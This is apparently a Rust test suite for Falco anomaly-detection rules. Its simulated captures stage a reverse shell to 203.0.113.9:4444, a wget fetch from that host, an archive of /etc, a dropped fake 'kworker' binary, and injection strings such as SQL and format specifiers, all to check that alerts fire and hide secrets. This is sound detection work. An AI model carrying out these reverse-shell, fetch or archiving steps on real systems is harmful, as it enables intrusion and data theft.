//! Our rules in a real host: each fires where it should, once, and its alert loses nothing on the way.

use std::collections::BTreeMap;

use anomaly_hosts::rules::{Rule, Ruleset};
use anomaly_hosts::scap::{Capture, Exec, Number};
use anomaly_hosts::sidekick::receive;
use anomaly_hosts::story::{self, NOVEL, WORKER};
use anomaly_hosts::sysdig::Row;
use serde_json::json;

use crate::scenario::Scenario;

fn ours() -> Ruleset {
    let mut rules =
        Ruleset::parse(include_str!("../../../../falco-rules/anomaly_rules.yaml")).expect("our rules");
    // What the rules file names for hosts without Falco's container plugin, as this one is.
    rules.override_macro("anomaly_in_container", "(proc.vpid != val(proc.pid))");
    rules
}

/// For every event the first rule that matches, which is the one that Falco reports, with the fields of its output.
fn alerts<'r>(rules: &'r Ruleset, scenario: &Scenario) -> BTreeMap<Number, (&'r Rule, Row)> {
    let mut first = BTreeMap::new();
    for rule in &rules.rules {
        let replayed = scenario
            .replay()
            .filter(&rules.expanded(&rule.condition))
            .format(&format!("*%evt.num {}", rule.output))
            .unwrap_or_else(|error| panic!("{}: {error}", rule.name));
        for (number, row) in replayed.numbers().into_iter().zip(replayed.rows) {
            first.entry(number).or_insert((rule, row));
        }
    }
    first
}

fn names(rules: &Ruleset, scenario: &Scenario) -> Vec<(Number, String)> {
    alerts(rules, scenario).into_iter().map(|(number, (rule, _))| (number, rule.name.clone())).collect()
}

/// Holds every alert against what Falcosidekick asks.
fn deliver(rules: &Ruleset, scenario: &Scenario) -> usize {
    let alerts = alerts(rules, scenario);
    for (rule, row) in alerts.values() {
        let alert = rule.alert(row, "2026-03-02T08:00:00.003000000Z").to_string();
        let alert = receive(alert.as_bytes())
            .unwrap_or_else(|rejection| panic!("{}: {rejection}\n{alert}", rule.name));
        assert!(!alert["output"].to_string().contains("<NA>"), "{alert:?}");
    }
    alerts.len()
}

#[test]
fn each_rule_reports_what_it_is_about() {
    let mut expected = Vec::new();
    let scenario = Scenario::after_learning(|capture| {
        let mut expect = |number, name: &str| expected.push((number, name.to_owned()));
        let remote = "203.0.113.9:4444".parse().expect("an address");

        let (shell, _) = capture.fork(WORKER)?;
        capture.connect(shell, 3, remote)?;
        capture.dup2(shell, 3, 0)?;
        expect(capture.exec(shell, &Exec::line("/usr/bin/sh -i"))?, "Novel program on a network connection");

        let stage = Exec::line("/usr/bin/python3 -c import(pty) --data http://203.0.113.9/x");
        expect(capture.run(WORKER, &stage)?.1, "Novel child of a server");

        // From here on below something that is no server.
        let (job, number) =
            capture.run(WORKER, &Exec::line("/usr/bin/job --weekly --to 203.0.113.9 /srv/www"))?;
        expect(number, "Novel child of a server");
        expect(capture.run(job, &Exec::line("/usr/bin/wget http://203.0.113.9/x"))?.1, "Novel network tool");
        expect(capture.run(job, &Exec::line("/usr/bin/perl -e print(1)"))?.1, "Novel shell or interpreter");
        expect(capture.run(job, &Exec::line("/usr/bin/tar cf /tmp/x /etc"))?.1, "Novel execution");
        let dropped = Exec::line("/tmp/kworker --threads 4").added_to_container();
        expect(capture.run_in_container(job, &dropped)?.1, "First-seen binary in a container");
        Ok(())
    });
    // Seven novel things on one day would raise a threshold that is `auto`.
    let Some(scenario) = scenario.map(|scenario| scenario.configured("threshold", 0.85)) else { return };
    let rules = ours();
    assert_eq!(names(&rules, &scenario), expected);
    assert_eq!(deliver(&rules, &scenario), expected.len());
}

#[test]
fn nothing_is_reported_while_a_workload_is_learned_nor_of_what_is_known() {
    let scenario = Scenario::of(|capture| {
        capture.run(WORKER, &Exec::line(NOVEL))?;
        capture.run(WORKER, &Exec::line("/usr/bin/sh -i"))?;
        story::learn(capture)
    });
    let Some(scenario) = scenario else { return };
    assert_eq!(names(&ours(), &scenario), []);
}

#[test]
fn a_group_is_reported_once_a_day_unless_that_is_lifted() {
    let mut numbers = Vec::new();
    let scenario = Scenario::after_learning(|capture| {
        for _ in 0..3 {
            numbers.push(capture.run_and_exit(WORKER, &Exec::line(NOVEL))?);
        }
        Ok(())
    });
    let Some(scenario) = scenario else { return };
    let mut rules = ours();
    assert_eq!(names(&rules, &scenario), [(numbers[0], "Novel child of a server".to_owned())]);
    rules.override_macro("anomaly_once", "(anomaly.score exists)");
    let all: Vec<_> = names(&rules, &scenario).into_iter().map(|(number, _)| number).collect();
    assert_eq!(all, numbers);
}

/// What the plugin injects where Falco has no driver, as a capture records it.
fn injected(
    capture: &mut Capture,
    name: &str,
    parent: &str,
    reason: &str,
    workload: &str,
) -> std::io::Result<Number> {
    let event = json!({
        "name": name, "parent": parent, "cmdline": format!("/usr/bin/{name} -x"), "pid": 4711, "uid": 33,
        "workload": workload, "score": 0.9731, "distance": 0.9, "smoothed": 0.9731, "threshold": 0.85,
        "level": "critical", "novel": true, "first": true, "seen": 1, "reason": reason,
        "nearest": "/usr/bin/date +%s",
    });
    capture.injected(4711, "anomaly_exec", event.to_string().as_bytes())
}

#[test]
fn without_a_driver_the_same_six_report() {
    let mut expected = Vec::new();
    let scenario = Scenario::of(|capture| {
        capture.fork(WORKER)?;
        let connection = "for the first time with a public connection on 0-2; new: name sh, flag -i";
        for (rule, name, parent, reason, workload) in [
            ("Novel program on a network connection (no driver)", "sh", "nginx", connection, "nginx.service"),
            ("Novel child of a server (no driver)", "id", "nginx", "new: name id", "nginx.service"),
            ("Novel network tool (no driver)", "wget", "job", "new: name wget", "host"),
            ("Novel shell or interpreter (no driver)", "python3.11", "job", "new: flag -c", "cron.service"),
            (
                "First-seen binary in a container (no driver)",
                "kworker",
                "job",
                "new: name kworker",
                "docker.io/library/nginx",
            ),
            ("Novel execution (no driver)", "tar", "job", "new: path /etc", "docker.io/library/nginx"),
            ("Novel execution (no driver)", "tar", "job", "new: name tar", "user@.service/app.scope"),
        ] {
            expected.push((injected(capture, name, parent, reason, workload)?, rule.to_owned()));
        }
        Ok(())
    });
    let Some(scenario) = scenario else { return };
    let rules = ours();
    assert_eq!(names(&rules, &scenario), expected);
    assert_eq!(deliver(&rules, &scenario), expected.len());
}

#[test]
fn an_alert_shows_no_secret() {
    let scenario = Scenario::after_learning(|capture| {
        let line =
            "/usr/bin/mysql --password=hunter2 -h 203.0.113.9 -e drop(table) https://u:hunter2@example.org/";
        capture.run(WORKER, &Exec::line(line)).map(drop)
    });
    let Some(scenario) = scenario else { return };
    let rules = ours();
    let alerts = alerts(&rules, &scenario);
    let (rule, row) = alerts.values().next().expect("an alert");
    let alert = rule.alert(row, "2026-03-02T08:00:00Z").to_string();
    assert!(alert.contains("/usr/bin/mysql") && !alert.contains("hunter2"), "{alert}");
}

/// The largest and the strangest that a process can be.
#[test]
fn alerts_about_hostile_processes_lose_nothing_either() {
    let hostile = [
        "\"\\\u{1b}]0;x\u{7}",
        "\u{202e}\u{feff}\u{2028}",
        "%s%n{{.}}",
        "' OR 1=1 --",
        "密".repeat(500).as_str(),
    ]
    .join(" ")
    .repeat(8);
    let scenario = Scenario::after_learning(|capture| {
        let (parent, _) = capture
            .run(WORKER, &Exec { name: "\"\\\"\\\"\\\"\\\"\\\"\\\"\\".to_owned(), ..Exec::line("/x") })?;
        for program in ["/usr/bin/tar", "/usr/bin/wget", "/usr/bin/perl", "/\"\\\"\\\"\\\"\\\"\\\"\\\"\\\"\\"]
        {
            capture.run(parent, &Exec::new(&[program, hostile.as_str()]))?;
        }
        Ok(())
    });
    let Some(scenario) = scenario else { return };
    assert!(deliver(&ours(), &scenario) >= 4);
}

#[test]
fn the_header_asks_for_what_the_rules_need() {
    let rules = ours();
    let text = serde_json::to_string(&rules.header).expect("JSON");
    assert!(text.contains("\"required_engine_version\":\"0.57.0\""), "{text}");
    let version = env!("CARGO_PKG_VERSION");
    assert!(text.contains(&format!("{{\"name\":\"anomaly\",\"version\":\"{version}\"}}")), "{text}");
    for rule in &rules.rules {
        let condition = rules.expanded(&rule.condition);
        assert!(condition.trim_start_matches('(').starts_with("evt.type "), "{}: {condition}", rule.name);
        let last = condition.rfind("anomaly.score").expect("a score");
        let cheap = ["proc.name", "proc.pname", "proc.stdin", "anomaly.proc_"];
        assert!(cheap.iter().all(|field| condition.rfind(field).is_none_or(|at| at < last)), "{}", rule.name);
        assert_eq!(rule.tags[0], "maturity_sandbox", "{}", rule.name);
        assert!(rule.tags.iter().any(|tag| tag.starts_with("mitre_")), "{}", rule.name);
        let technique = |tag: &&String| {
            tag.starts_with(['T']) && tag[1..].bytes().all(|byte| byte.is_ascii_alphanumeric())
        };
        assert!(rule.tags.iter().any(|tag| technique(&tag)), "{}", rule.name);
        assert!(
            rule.output.contains("%anomaly.score") && rule.output.contains("%anomaly.reason"),
            "{}",
            rule.name
        );
        assert!(!rule.output.contains("_pid") && !rule.output.contains("proc.pid"), "{}", rule.name);
    }
}
